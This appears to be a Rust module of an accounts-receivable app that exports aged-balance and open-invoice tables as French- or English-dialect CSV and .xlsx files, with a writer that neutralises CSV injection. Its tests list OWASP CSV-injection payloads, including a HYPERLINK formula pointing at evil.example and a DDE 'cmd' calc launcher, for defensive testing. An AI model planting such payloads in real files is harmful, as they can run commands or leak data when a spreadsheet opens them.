//! Tables as files to download: a generic `Table` of typed cells, written
//! as CSV in the reader's spreadsheet dialect (French Excel: `;`, decimal
//! comma, dd/mm/yyyy) or as an .xlsx workbook with real numbers and dates,
//! and the tables the app exports (the aged balance, the open invoices),
//! titled in French or English. Pure: bytes out, no clock read (the
//! workbook's creation date is the as-of date passed in).

pub mod dunning;
pub mod tables;

use crate::domain::analysis::kpi::aging::{AgedBalance, Buckets, Group, GroupBy};
use crate::domain::analysis::kpi::outstanding::known_at;
use crate::domain::analysis::kpi::Unavailable;
use crate::domain::lang::Lang;
use crate::domain::ledger::{ItemKind, View};
use chrono::{Datelike, NaiveDate};
use rust_decimal::prelude::ToPrimitive;
use rust_decimal::Decimal;
use serde::{Deserialize, Serialize};

/// What a column holds, which decides how its cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Kind {
    Text,
    Money,
    Number,
    Percent,
    Date,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Column {
    pub title: String,
    pub kind: Kind,
}

/// One value. Money and numbers are exact decimals; a percent is in
/// percent (96.09, kpi.md "Names in the page"), not a fraction.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Cell {
    Text(String),
    Money(Decimal),
    Number(Decimal),
    Percent(Decimal),
    Date(NaiveDate),
    Empty,
}

/// A table to export: a title (the sheet's name), columns, rows.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table {
    pub title: String,
    pub columns: Vec<Column>,
    pub rows: Vec<Vec<Cell>>,
}

/// Why a workbook could not be made (rust_xlsxwriter's error, as text).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
pub enum ExportError {
    #[error("the workbook could not be written: {0}")]
    Xlsx(String),
    #[error("the figures are unavailable: {0:?}")]
    Unavailable(Unavailable),
}

impl From<rust_xlsxwriter::XlsxError> for ExportError {
    fn from(e: rust_xlsxwriter::XlsxError) -> Self {
        ExportError::Xlsx(e.to_string())
    }
}

impl From<Unavailable> for ExportError {
    fn from(e: Unavailable) -> Self {
        ExportError::Unavailable(e)
    }
}

/// The UTF-8 byte order mark: without it Excel reads a CSV file as the
/// system's code page and garbles accents ("Ã©chu"), in English too (names
/// of customers are not all ASCII), so both dialects start with it.
const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A plain decimal in the dialect: no thousands separator, a decimal comma
/// in French.
fn plain(n: Decimal, lang: Lang) -> String {
    let text = n.to_string();
    match lang {
        Lang::Fr => text.replace('.', ","),
        Lang::En => text,
    }
}

/// Money keeps every decimal it has, and at least two ("1234,50").
fn money_text(n: Decimal) -> Decimal {
    let mut n = n.normalize();
    if n.scale() < 2 {
        n.rescale(2);
    }
    n
}

/// A cell as CSV text. Numbers are rounded to 4 decimals (day ratios are
/// kept at full precision, 28 digits, which no reader wants), percents
/// to 2; money is exact.
fn cell_text(cell: &Cell, lang: Lang) -> String {
    match cell {
        Cell::Text(s) => s.clone(),
        Cell::Money(n) => plain(money_text(*n), lang),
        Cell::Number(n) => plain(n.round_dp(4).normalize(), lang),
        Cell::Percent(n) => plain(n.round_dp(2), lang),
        Cell::Date(d) => match lang {
            Lang::Fr => d.format("%d/%m/%Y").to_string(),
            Lang::En => d.format("%Y-%m-%d").to_string(),
        },
        Cell::Empty => String::new(),
    }
}

/// The table as CSV: in French, Excel's French dialect (`;`, decimal
/// comma, dates dd/mm/yyyy); in English, `,`, a decimal point and ISO dates
/// (yyyy-mm-dd, which every spreadsheet reads whatever its locale). Both
/// UTF-8 with a byte order mark and CRLF line ends (what Excel writes);
/// fields quoted where needed, and a text that a spreadsheet would take
/// for a formula written as text (`CsvOut`).
pub fn table_csv(table: &Table, lang: Lang) -> Vec<u8> {
    let mut out = CsvOut::new(lang, true);
    out.record(table.columns.iter().map(|c| CsvField::Text(&c.title)));
    for row in &table.rows {
        let texts: Vec<(bool, String)> = row
            .iter()
            .map(|c| match c {
                Cell::Text(s) => (true, s.clone()),
                other => (false, cell_text(other, lang)),
            })
            .collect();
        out.record(texts.iter().map(|(text, s)| if *text { CsvField::Text(s) } else { CsvField::Plain(s) }));
    }
    out.finish()
}

/// One field of a CSV record.
#[derive(Debug, Clone, Copy)]
pub enum CsvField<'a> {
    /// A text (from a file, or typed): never a formula.
    Text(&'a str),
    /// A number or a date as the dialect writes it.
    Plain(&'a str),
}

/// A CSV file in the reader's dialect (`;` in French, `,` in English;
/// CRLF line ends; optionally a byte order mark). Fields are quoted where
/// a reader needs it (a delimiter, a quote, a line break), and a text is
/// never left for a spreadsheet to evaluate (CSV injection, as OWASP
/// describes it): one starting with `=`, `+`, `-`, `@`, a tab or a carriage
/// return (after spaces) is prefixed with a single quote and quoted, and a
/// text holding any usual separator (`,` `;` tab `|`) is quoted, so that a
/// reader set to another separator cannot start a cell inside it. Numbers
/// written as numbers (a negative amount) are left as they are.
pub struct CsvOut {
    bytes: Vec<u8>,
    delimiter: u8,
}

impl CsvOut {
    pub fn new(lang: Lang, bom: bool) -> Self {
        let delimiter = match lang {
            Lang::Fr => b';',
            Lang::En => b',',
        };
        CsvOut { bytes: if bom { BOM.to_vec() } else { Vec::new() }, delimiter }
    }

    pub fn record<'a>(&mut self, fields: impl IntoIterator<Item = CsvField<'a>>) {
        for (i, field) in fields.into_iter().enumerate() {
            if i > 0 {
                self.bytes.push(self.delimiter);
            }
            let (s, text) = match field {
                CsvField::Text(s) => (s, true),
                CsvField::Plain(s) => (s, false),
            };
            let formula = text && looks_like_formula(s);
            let separators: &[char] = if text { &[',', ';', '\t', '|', '"', '\r', '\n'] } else { &['"', '\r', '\n'] };
            let quoted = formula || s.contains(self.delimiter as char) || s.contains(separators);
            if quoted {
                self.bytes.push(b'"');
                if formula {
                    self.bytes.push(b'\'');
                }
                self.bytes.extend_from_slice(s.replace('"', "\"\"").as_bytes());
                self.bytes.push(b'"');
            } else {
                self.bytes.extend_from_slice(s.as_bytes());
            }
        }
        self.bytes.extend_from_slice(b"\r\n");
    }

    pub fn finish(self) -> Vec<u8> {
        self.bytes
    }
}

/// A text a spreadsheet would evaluate: its first character (after
/// spaces) is one of `=`, `+`, `-`, `@`, a tab or a carriage return.
fn looks_like_formula(s: &str) -> bool {
    s.trim_start_matches([' ', '\u{a0}']).starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A sheet name Excel accepts: none of `[ ] : * ? / \`, no apostrophe at
/// either end, 1 to 31 characters; `fallback` when nothing is left.
pub fn sheet_name(title: &str, fallback: &str) -> String {
    let cleaned: String =
        title.chars().map(|c| if matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\') { '-' } else { c }).collect();
    let cut: String = cleaned.trim().trim_matches('\'').chars().take(31).collect();
    let cut = cut.trim().trim_end_matches('\'').to_string();
    if cut.is_empty() || cut.eq_ignore_ascii_case("history") {
        fallback.to_string()
    } else {
        cut
    }
}

/// The workbook of `table`: a sheet named after its title, a bold and
/// frozen header row, money as numbers with two decimals shown
/// ("#,##0.00", which Excel shows as `1 234,56` in French), numbers as
/// numbers (General format), percents as numbers in percent with a "%" shown, dates as Excel
/// dates (dd/mm/yyyy in French, yyyy-mm-dd in English), columns wide
/// enough for their text. `about`, when given, is a second sheet of
/// (label, value) lines saying what the file holds. The workbook's creation
/// date is `created` (no clock is read). Floats appear only here, where
/// Excel stores every number as one.
pub fn table_xlsx(
    table: &Table,
    lang: Lang,
    about: &[(String, String)],
    created: NaiveDate,
) -> Result<Vec<u8>, ExportError> {
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook};
    let date = |d: NaiveDate| -> Result<ExcelDateTime, ExportError> {
        let year =
            u16::try_from(d.year()).map_err(|_| ExportError::Xlsx(format!("the year of {d} is out of range")))?;
        Ok(ExcelDateTime::from_ymd(year, d.month() as u8, d.day() as u8)?)
    };
    let mut book = Workbook::new();
    book.set_properties(&DocProperties::new().set_creation_datetime(&date(created)?));
    let bold = Format::new().set_bold();
    let money = Format::new().set_num_format("#,##0.00");
    let percent = Format::new().set_num_format("0.00\" %\"");
    let day = Format::new().set_num_format(match lang {
        Lang::Fr => "dd/mm/yyyy",
        Lang::En => "yyyy-mm-dd",
    });
    let fallback = match lang {
        Lang::Fr => "Feuille1",
        Lang::En => "Sheet1",
    };
    let sheet = book.add_worksheet();
    sheet.set_name(sheet_name(&table.title, fallback))?;
    let mut widths: Vec<usize> = table.columns.iter().map(|c| c.title.chars().count()).collect();
    for (col, c) in table.columns.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, &c.title, &bold)?;
    }
    let float = |n: &Decimal| n.to_f64().unwrap_or(0.0);
    for (r, row) in table.rows.iter().enumerate() {
        let r = r as u32 + 1;
        for (col, cell) in row.iter().enumerate() {
            let c = col as u16;
            match cell {
                Cell::Text(s) => sheet.write_string(r, c, s)?,
                Cell::Money(n) => sheet.write_number_with_format(r, c, float(n), &money)?,
                // Excel's General format: "3", "12.5" (a "#,##0.##" format shows "3.").
                Cell::Number(n) => sheet.write_number(r, c, float(n))?,
                Cell::Percent(n) => sheet.write_number_with_format(r, c, float(n), &percent)?,
                Cell::Date(d) => sheet.write_datetime_with_format(r, c, date(*d)?, &day)?,
                Cell::Empty => sheet,
            };
            // The text's length, and room for the thousands separators of money.
            let text = cell_text(cell, lang).chars().count();
            let shown = if matches!(cell, Cell::Money(_)) { text + text / 3 } else { text };
            if let Some(w) = widths.get_mut(col) {
                *w = (*w).max(shown);
            }
        }
    }
    for (col, w) in widths.iter().enumerate() {
        sheet.set_column_width(col as u16, (*w as f64 + 2.0).clamp(8.0, 60.0))?;
    }
    sheet.set_freeze_panes(1, 0)?;
    if !about.is_empty() {
        let sheet = book.add_worksheet();
        sheet.set_name(match lang {
            Lang::Fr => "À propos",
            Lang::En => "About",
        })?;
        let mut width = 10;
        for (r, (label, value)) in about.iter().enumerate() {
            sheet.write_string_with_format(r as u32, 0, label, &bold)?;
            sheet.write_string(r as u32, 1, value)?;
            width = width.max(label.chars().count());
        }
        sheet.set_column_width(0, (width as f64 + 2.0).min(60.0))?;
        sheet.set_column_width(1, 60)?;
    }
    Ok(book.save_to_buffer()?)
}

/// The words of the exported tables.
fn words(lang: Lang) -> Words {
    match lang {
        Lang::Fr => Words {
            aged_title: "Balance âgée",
            open_title: "Factures ouvertes",
            customer: "Client",
            division: "Division",
            sales_rep: "Commercial",
            dispute_reason: "Motif de litige",
            none: "(sans)",
            unnamed: "(non affecté)",
            total: "Total",
            open_invoices: "Factures ouvertes",
            not_due: "Non échu",
            days: "j",
            over: "Plus de",
            invoice: "Facture",
            customer_code: "Code client",
            customer_name: "Nom du client",
            invoice_date: "Date de facture",
            due_date: "Échéance",
            days_past_due: "Jours de retard",
            bucket: "Tranche",
            open: "Montant ouvert",
            disputed: "En litige",
            yes: "oui",
            no: "non",
            unapplied: "Encaissement non affecté",
        },
        Lang::En => Words {
            aged_title: "Aged balance",
            open_title: "Open invoices",
            customer: "Customer",
            division: "Division",
            sales_rep: "Sales rep",
            dispute_reason: "Dispute reason",
            none: "(none)",
            unnamed: "(unassigned)",
            total: "Total",
            open_invoices: "Open invoices",
            not_due: "Not due",
            days: "days",
            over: "Over",
            invoice: "Invoice",
            customer_code: "Customer code",
            customer_name: "Customer name",
            invoice_date: "Invoice date",
            due_date: "Due date",
            days_past_due: "Days past due",
            bucket: "Bucket",
            open: "Open amount",
            disputed: "Disputed",
            yes: "yes",
            no: "no",
            unapplied: "Unapplied cash",
        },
    }
}

struct Words {
    aged_title: &'static str,
    open_title: &'static str,
    customer: &'static str,
    division: &'static str,
    sales_rep: &'static str,
    dispute_reason: &'static str,
    none: &'static str,
    unnamed: &'static str,
    total: &'static str,
    open_invoices: &'static str,
    not_due: &'static str,
    days: &'static str,
    over: &'static str,
    invoice: &'static str,
    customer_code: &'static str,
    customer_name: &'static str,
    invoice_date: &'static str,
    due_date: &'static str,
    days_past_due: &'static str,
    bucket: &'static str,
    open: &'static str,
    disputed: &'static str,
    yes: &'static str,
    no: &'static str,
    unapplied: &'static str,
}

/// The buckets' titles: "Non échu", "1-30 j", ..., "Plus de 90 j".
pub fn bucket_titles(buckets: &Buckets, lang: Lang) -> Vec<String> {
    let w = words(lang);
    buckets
        .ranges()
        .into_iter()
        .map(|range| match range {
            (None, _) => w.not_due.to_string(),
            (Some(low), Some(high)) => format!("{low}-{high} {}", w.days),
            (Some(low), None) => format!("{} {} {}", w.over, low - 1, w.days),
        })
        .collect()
}

/// The title of a grouping's column.
fn group_title(group_by: GroupBy, lang: Lang) -> &'static str {
    let w = words(lang);
    match group_by {
        GroupBy::Customer => w.customer,
        GroupBy::Division => w.division,
        GroupBy::SalesRep => w.sales_rep,
        GroupBy::DisputeReason => w.dispute_reason,
    }
}

pub(crate) fn column(title: impl Into<String>, kind: Kind) -> Column {
    Column { title: title.into(), kind }
}

/// Every row of an aged balance (kpi.md "Aged balance"): its label, its
/// buckets, its total and its open invoices, then a total row, which sums
/// exactly to AR(t) as the rows do.
pub fn aged_balance_table<'a>(ledger: impl Into<View<'a>>, a: &AgedBalance, lang: Lang) -> Table {
    let ledger: View<'a> = ledger.into();
    let w = words(lang);
    let mut columns = vec![column(group_title(a.group_by, lang), Kind::Text)];
    columns.extend(bucket_titles(&a.buckets, lang).into_iter().map(|t| column(t, Kind::Money)));
    columns.push(column(w.total, Kind::Money));
    columns.push(column(w.open_invoices, Kind::Number));
    let label = |g: Group| match (g, g.label(&ledger)) {
        (_, Some(l)) => l,
        (Group::Customer(_), None) => w.unnamed.to_string(),
        (Group::Label(_), None) => w.none.to_string(),
    };
    let mut rows: Vec<Vec<Cell>> = a
        .rows
        .iter()
        .map(|r| {
            let mut row = vec![Cell::Text(label(r.group))];
            row.extend(r.buckets.iter().map(|v| Cell::Money(*v)));
            row.push(Cell::Money(r.total));
            row.push(Cell::Number(Decimal::from(r.open_invoices)));
            row
        })
        .collect();
    let mut total = vec![Cell::Text(w.total.to_string())];
    total.extend(a.totals.iter().map(|v| Cell::Money(*v)));
    total.push(Cell::Money(a.total));
    total.push(Cell::Number(a.rows.iter().map(|r| Decimal::from(r.open_invoices)).sum()));
    rows.push(total);
    Table { title: w.aged_title.to_string(), columns, rows }
}

/// Every line open at `t` (invoices, credit notes and unapplied cash: what
/// AR(t) sums), the oldest due date first: id, customer code and name,
/// dates, days past due, bucket, open amount, dispute, division, sales rep.
pub fn open_invoices_table<'a>(
    ledger: impl Into<View<'a>>,
    t: NaiveDate,
    buckets: &Buckets,
    lang: Lang,
) -> Result<Table, Unavailable> {
    let ledger: View<'a> = ledger.into();
    known_at(ledger, t)?;
    let w = words(lang);
    let titles = bucket_titles(buckets, lang);
    let columns = vec![
        column(w.invoice, Kind::Text),
        column(w.customer_code, Kind::Text),
        column(w.customer_name, Kind::Text),
        column(w.invoice_date, Kind::Date),
        column(w.due_date, Kind::Date),
        column(w.days_past_due, Kind::Number),
        column(w.bucket, Kind::Text),
        column(w.open, Kind::Money),
        column(w.disputed, Kind::Text),
        column(w.dispute_reason, Kind::Text),
        column(w.division, Kind::Text),
        column(w.sales_rep, Kind::Text),
    ];
    let mut open: Vec<_> = ledger.items().map(|i| (i, i.open_at(t))).filter(|(_, o)| !o.is_zero()).collect();
    open.sort_by(|a, b| a.0.due_date.cmp(&b.0.due_date).then_with(|| a.0.id.cmp(&b.0.id)));
    let text = |s: Option<&str>| s.filter(|s| !s.is_empty()).map_or(Cell::Empty, |s| Cell::Text(s.to_string()));
    let rows = open
        .into_iter()
        .map(|(inv, amount)| {
            let customer = ledger.customers.get(inv.customer as usize);
            let dpd = inv.dpd(t);
            let id = match inv.kind {
                ItemKind::Invoice | ItemKind::Receivable | ItemKind::Doubtful | ItemKind::DoubtfulSale => {
                    inv.id.to_string()
                }
                ItemKind::UnappliedCash if inv.id.is_empty() => w.unapplied.to_string(),
                ItemKind::UnappliedCash => format!("{} ({})", inv.id, w.unapplied),
            };
            vec![
                Cell::Text(id),
                text(customer.map(|c| c.id.as_str())),
                text(customer.and_then(|c| c.name.as_deref())),
                Cell::Date(inv.invoice_date),
                Cell::Date(inv.due_date),
                Cell::Number(Decimal::from(dpd)),
                titles.get(buckets.index(dpd)).map_or(Cell::Empty, |t| Cell::Text(t.clone())),
                Cell::Money(amount.to_decimal()),
                Cell::Text(if inv.disputed { w.yes } else { w.no }.to_string()),
                text(inv.dispute_reason.map(|ix| ledger.label(ix))),
                text(inv.division.map(|ix| ledger.label(ix))),
                text(inv.sales_rep.map(|ix| ledger.label(ix))),
            ]
        })
        .collect();
    Ok(Table { title: w.open_title.to_string(), columns, rows })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::domain::analysis::kpi::aging::aged_balance;
    use crate::domain::ledger::tests::{d, dec, inv, ledger};
    use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
    use std::io::Cursor;

    fn small() -> Table {
        Table {
            title: "Balance âgée: mars/2026 [EUR] et bien plus encore".into(),
            columns: vec![
                column("Client", Kind::Text),
                column("Montant", Kind::Money),
                column("Date", Kind::Date),
                column("Taux", Kind::Percent),
                column("Jours", Kind::Number),
            ],
            rows: vec![
                vec![
                    Cell::Text("Dupont; \"fils\"".into()),
                    Cell::Money(dec("1234.56")),
                    Cell::Date(d("2026-03-31")),
                    Cell::Percent(dec("78.260869")),
                    Cell::Number(dec("12.5")),
                ],
                vec![
                    Cell::Text("Été".into()),
                    Cell::Money(dec("-50")),
                    Cell::Empty,
                    Cell::Empty,
                    Cell::Number(dec("3")),
                ],
            ],
        }
    }

    /// Customer names a hostile file may hold (OWASP "CSV injection").
    pub(crate) const HOSTILE: [&str; 6] = [
        "=HYPERLINK(\"http://evil.example/?x\",\"Cliquez\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "\tTab=1",
        "\r=1+1",
    ];

    /// Every field of a CSV export that a spreadsheet would take for a
    /// formula is a number written as a number; the hostile texts are there,
    /// quoted and prefixed with a single quote. `bytes` in `lang`'s dialect.
    #[track_caller]
    pub(crate) fn assert_no_formula(bytes: &[u8], lang: Lang, hostile: &[&str]) {
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        let delimiter = if lang == Lang::Fr { b';' } else { b',' };
        let mut r = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(text.as_bytes());
        let mut fields = Vec::new();
        for record in r.records() {
            fields.extend(record.unwrap().iter().map(str::to_string));
        }
        for f in &fields {
            if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                let number = f.replace(',', ".").parse::<Decimal>();
                assert!(number.is_ok(), "a field a spreadsheet evaluates: {f:?} in\n{text}");
            }
        }
        for h in hostile {
            assert!(fields.contains(&format!("'{h}")), "{h:?} kept as text in\n{text}");
            // Quoted in the file, so that no reader splits or evaluates it.
            let quoted = format!("\"'{}", h.replace('"', "\"\""));
            assert!(text.contains(&quoted), "{h:?} quoted in\n{text}");
        }
    }

    /// The workbook's text cells are strings (never a formula), as written.
    #[track_caller]
    pub(crate) fn assert_strings_in_xlsx(bytes: &[u8], hostile: &[&str]) {
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
        let mut strings = Vec::new();
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).unwrap();
            assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in sheet {name}");
            let range = book.worksheet_range(&name).unwrap();
            strings.extend(range.used_cells().filter_map(|(_, _, c)| match c {
                Data::String(s) => Some(s.clone()),
                _ => None,
            }));
        }
        for h in hostile {
            assert!(strings.iter().any(|s| s == h), "{h:?} as a string cell");
        }
    }

    #[test]
    fn hostile_text_is_never_a_formula() {
        let mut t = small();
        t.rows = HOSTILE
            .iter()
            .map(|h| {
                vec![
                    Cell::Text(h.to_string()),
                    Cell::Money(dec("-5")),
                    Cell::Empty,
                    Cell::Percent(dec("-1.5")),
                    Cell::Number(dec("-2")),
                ]
            })
            .collect();
        for lang in [Lang::Fr, Lang::En] {
            let bytes = table_csv(&t, lang);
            assert_no_formula(&bytes, lang, &HOSTILE);
            // Negative numbers stay numbers: not quoted, not prefixed.
            let text = String::from_utf8(bytes).unwrap();
            let minus = if lang == Lang::Fr { "-5,00" } else { "-5.00" };
            assert!(
                text.contains(&format!(
                    "{}{minus}{}",
                    if lang == Lang::Fr { ';' } else { ',' },
                    if lang == Lang::Fr { ';' } else { ',' }
                )),
                "{text}"
            );
        }
        // A separator of the other dialect inside a text is quoted too: read
        // with either separator it stays one cell.
        let mut t = small();
        t.rows = vec![vec![Cell::Text("Dupont,=1+1;@A1".into()), Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty]];
        assert!(String::from_utf8(table_csv(&t, Lang::Fr)).unwrap().contains("\"Dupont,=1+1;@A1\""));
        assert!(String::from_utf8(table_csv(&t, Lang::En)).unwrap().contains("\"Dupont,=1+1;@A1\""));
        let mut t = small();
        t.rows = HOSTILE
            .iter()
            .map(|h| vec![Cell::Text(h.to_string()), Cell::Money(dec("-5")), Cell::Empty, Cell::Empty, Cell::Empty])
            .collect();
        let about = vec![("Client".to_string(), HOSTILE[0].to_string())];
        let book = table_xlsx(&t, Lang::Fr, &about, d("2026-03-31")).unwrap();
        assert_strings_in_xlsx(&book, &HOSTILE);
        let mut b: Xlsx<_> = open_workbook_from_rs(Cursor::new(book)).unwrap();
        let range = b.worksheet_range(&b.sheet_names()[0]).unwrap();
        assert_eq!(range.get_value((1, 1)), Some(&Data::Float(-5.0)), "a negative amount stays a number");
    }

    #[test]
    fn csv_in_the_french_excel_dialect_byte_for_byte() {
        let bytes = table_csv(&small(), Lang::Fr);
        let expected = "\u{feff}Client;Montant;Date;Taux;Jours\r\n\
                        \"Dupont; \"\"fils\"\"\";1234,56;31/03/2026;78,26;12,5\r\n\
                        Été;-50,00;;;3\r\n";
        assert_eq!(String::from_utf8(bytes.clone()).unwrap(), expected);
        assert!(bytes.starts_with(b"\xEF\xBB\xBFClient;"));
    }

    #[test]
    fn csv_in_english() {
        let text = String::from_utf8(table_csv(&small(), Lang::En)).unwrap();
        let expected = "\u{feff}Client,Montant,Date,Taux,Jours\r\n\
                        \"Dupont; \"\"fils\"\"\",1234.56,2026-03-31,78.26,12.5\r\n\
                        Été,-50.00,,,3\r\n";
        assert_eq!(text, expected);
    }

    #[test]
    fn sheet_names_follow_excels_rules() {
        assert_eq!(
            sheet_name("Balance âgée: mars/2026 [EUR] et bien plus encore", "S"),
            "Balance âgée- mars-2026 -EUR- e"
        );
        assert_eq!(sheet_name("Balance âgée: mars/2026 [EUR] et bien plus encore", "S").chars().count(), 31);
        assert_eq!(sheet_name("'quoted'", "S"), "quoted");
        assert_eq!(sheet_name("  ", "Sheet1"), "Sheet1");
        assert_eq!(sheet_name("History", "Sheet1"), "Sheet1");
        assert_eq!(sheet_name("a*b?c\\d", "S"), "a-b-c-d");
    }

    #[test]
    fn xlsx_has_typed_cells_read_back_by_calamine() {
        let about = vec![("Fichier".to_string(), "clients.csv".to_string())];
        let bytes = table_xlsx(&small(), Lang::Fr, &about, d("2026-03-31")).unwrap();
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
        assert_eq!(book.sheet_names(), vec!["Balance âgée- mars-2026 -EUR- e".to_string(), "À propos".to_string()]);
        let range = book.worksheet_range("Balance âgée- mars-2026 -EUR- e").unwrap();
        assert_eq!(range.get_value((0, 0)), Some(&Data::String("Client".into())));
        assert_eq!(range.get_value((1, 0)), Some(&Data::String("Dupont; \"fils\"".into())));
        assert_eq!(range.get_value((1, 1)), Some(&Data::Float(1234.56)));
        match range.get_value((1, 2)) {
            Some(Data::DateTime(dt)) => {
                // Excel's serial day: days since 1899-12-30.
                assert!(dt.is_datetime());
                assert_eq!(dt.as_f64(), (d("2026-03-31") - d("1899-12-30")).num_days() as f64);
            }
            other => panic!("a date cell, got {other:?}"),
        }
        assert_eq!(range.get_value((1, 3)), Some(&Data::Float(78.260869)));
        assert_eq!(range.get_value((1, 4)), Some(&Data::Float(12.5)));
        assert_eq!(range.get_value((2, 1)), Some(&Data::Float(-50.0)));
        assert!(matches!(range.get_value((2, 2)), None | Some(Data::Empty)));
        let about = book.worksheet_range("À propos").unwrap();
        assert_eq!(about.get_value((0, 1)), Some(&Data::String("clients.csv".into())));
        // No clock: the same table gives the same bytes.
        assert_eq!(
            table_xlsx(&small(), Lang::Fr, &[("Fichier".into(), "clients.csv".into())], d("2026-03-31")).unwrap(),
            bytes
        );
        // A date Excel cannot hold is an error value, not a panic.
        let mut bad = small();
        bad.rows[0][2] = Cell::Date(NaiveDate::from_ymd_opt(-5, 1, 1).unwrap());
        assert!(matches!(table_xlsx(&bad, Lang::En, &[], d("2026-03-31")), Err(ExportError::Xlsx(_))));
    }

    fn labelled() -> crate::domain::ledger::Ledger {
        let mut l = ledger(vec![
            inv(0, "2026-03-01", "2026-03-31", "100.10", None),
            inv(0, "2026-02-01", "2026-03-01", "200.20", None),
            inv(1, "2025-12-01", "2025-12-31", "300.30", None),
            inv(1, "2026-02-15", "2026-03-17", "-50", None),
            inv(2, "2026-01-01", "2026-01-31", "999", Some("2026-03-01")),
        ]);
        l.labels = vec!["Nord".into(), "Qualité".into()];
        l.invoices[0].division = Some(0);
        l.invoices[2].disputed = true;
        l.invoices[2].dispute_reason = Some(1);
        l.customers[1].name = Some("Bêta SA".into());
        l
    }

    #[test]
    fn aged_balance_table_rows_and_total_row_add_up_to_ar() {
        let l = labelled();
        let t = d("2026-03-31");
        let a = aged_balance(&l, t, &Buckets::default(), GroupBy::Division).unwrap();
        let table = aged_balance_table(&l, &a, Lang::Fr);
        let titles: Vec<&str> = table.columns.iter().map(|c| c.title.as_str()).collect();
        assert_eq!(
            titles,
            vec!["Division", "Non échu", "1-30 j", "31-60 j", "61-90 j", "Plus de 90 j", "Total", "Factures ouvertes"]
        );
        assert_eq!(table.rows.len(), a.rows.len() + 1);
        assert_eq!(table.rows[0][0], Cell::Text("(sans)".into()), "the largest row: no division");
        let last = table.rows.last().unwrap();
        assert_eq!(last[0], Cell::Text("Total".into()));
        assert_eq!(last[6], Cell::Money(dec("550.60")));
        assert_eq!(Ok(dec("550.60")), crate::domain::analysis::kpi::outstanding::ar_at(&l, t));
        assert_eq!(last[7], Cell::Number(dec("4")));
        // Each bucket column of the total row sums the rows above it.
        for col in 1..=6 {
            let sum: Decimal = table.rows[..table.rows.len() - 1]
                .iter()
                .map(|r| match &r[col] {
                    Cell::Money(v) => *v,
                    _ => Decimal::ZERO,
                })
                .sum();
            assert_eq!(last[col], Cell::Money(sum), "column {col}");
        }
        let en = aged_balance_table(&l, &a, Lang::En);
        assert_eq!(en.columns[5].title, "Over 90 days");
        assert_eq!(en.title, "Aged balance");
    }

    #[test]
    fn open_invoices_table_lists_each_open_line() {
        let l = labelled();
        let t = d("2026-03-31");
        let table = open_invoices_table(&l, t, &Buckets::default(), Lang::En).unwrap();
        assert_eq!(table.columns.len(), 12);
        assert_eq!(table.columns[7].title, "Open amount");
        assert_eq!(table.rows.len(), 4, "the settled invoice is not open");
        // The oldest due date first: customer 1's 300.30, 90 days past due, disputed.
        let first = &table.rows[0];
        assert_eq!(first[1], Cell::Text("C1".into()));
        assert_eq!(first[2], Cell::Text("Bêta SA".into()));
        assert_eq!(first[3], Cell::Date(d("2025-12-01")));
        assert_eq!(first[5], Cell::Number(dec("90")));
        assert_eq!(first[6], Cell::Text("61-90 days".into()));
        assert_eq!(first[7], Cell::Money(dec("300.30")));
        assert_eq!((&first[8], &first[9]), (&Cell::Text("yes".into()), &Cell::Text("Qualité".into())));
        assert_eq!(first[10], Cell::Empty);
        let total: Decimal = table
            .rows
            .iter()
            .map(|r| match &r[7] {
                Cell::Money(v) => *v,
                _ => Decimal::ZERO,
            })
            .sum();
        assert_eq!(total, dec("550.60"));
        let fr = open_invoices_table(&l, t, &Buckets::default(), Lang::Fr).unwrap();
        assert_eq!(fr.columns[4].title, "Échéance");
        // The French CSV of it reads back with its amounts in the French dialect.
        let csv = String::from_utf8(table_csv(&fr, Lang::Fr)).unwrap();
        assert!(csv.contains(";01/12/2025;31/12/2025;90;61-90 j;300,30;oui;Qualité;;\r\n"), "{csv}");
    }
}
